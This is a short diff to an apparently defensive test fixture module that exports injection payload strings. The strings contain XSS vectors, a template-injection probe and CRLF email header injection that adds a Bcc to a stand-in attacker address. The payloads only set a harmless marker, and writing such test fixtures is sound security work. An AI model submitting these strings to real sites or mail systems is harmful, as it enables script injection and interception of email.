@@ -1,7 +1,7 @@
 import { load } from 'cheerio'
 import * as z from 'zod'
 
-/** Ends whatever it may stand in, tries to run, and tries to begin header lines of a letter. */
+/** Ends whatever it may stand in, tries to run, and tries to begin header lines of an email. */
 export const payload = `"'></title></textarea></style></script><img data-attack src=x onerror="window.attacked=1"><svg data-attack onload="window.attacked=1"></svg><script data-attack>window.attacked=1</script>[a](javascript:window.attacked=1)<a data-attack href="javascript:window.attacked=1">b</a>{{ 7 | times: 7 }}\r\nBcc: eve@evil.example\r\nX-Attack: 1\r\n\r\n<b data-attack>`
 /** The same for a field that takes little. */
 export const shortPayload = `"><img data-attack src=x onerror=attacked=1>\r\nX-Attack: 1`
